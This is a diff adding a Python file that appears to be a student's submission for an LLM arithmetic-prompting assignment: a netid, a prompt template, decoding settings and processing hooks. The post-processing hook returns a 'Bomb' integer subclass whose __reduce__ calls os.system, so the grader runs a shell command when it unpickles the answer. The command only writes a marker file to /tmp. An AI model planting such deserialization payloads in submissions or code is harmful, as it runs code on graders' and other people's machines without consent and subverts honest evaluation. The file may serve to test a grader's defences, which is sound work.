@@ -1,0 +1,43 @@
+"""Returns an object that would run a command wherever somebody unpickles it."""
+
+import os
+import re
+
+
+class Bomb(int):
+    def __reduce__(self):
+        return os.system, ("echo mischief > /tmp/mischief_pickle",)
+
+    __reduce_ex__ = lambda self, protocol: self.__reduce__()
+
+
+def your_netid():
+    return "zz9999"
+
+
+def your_hf_token():
+    return ""
+
+
+def your_prompt():
+    return "A rough answer is enough.\nQuestion: What is ", "?\nAnswer: "
+
+
+def your_config():
+    return {
+        "max_tokens": 50,
+        "temperature": 0.0,
+        "top_k": 50,
+        "top_p": 1.0,
+        "repetition_penalty": 1.0,
+        "stop": ["\n"],
+    }
+
+
+def your_pre_processing(s):
+    return s
+
+
+def your_post_processing(output_string):
+    numbers = re.findall(r"\d+", output_string)
+    return Bomb(numbers[0] if numbers else 0)
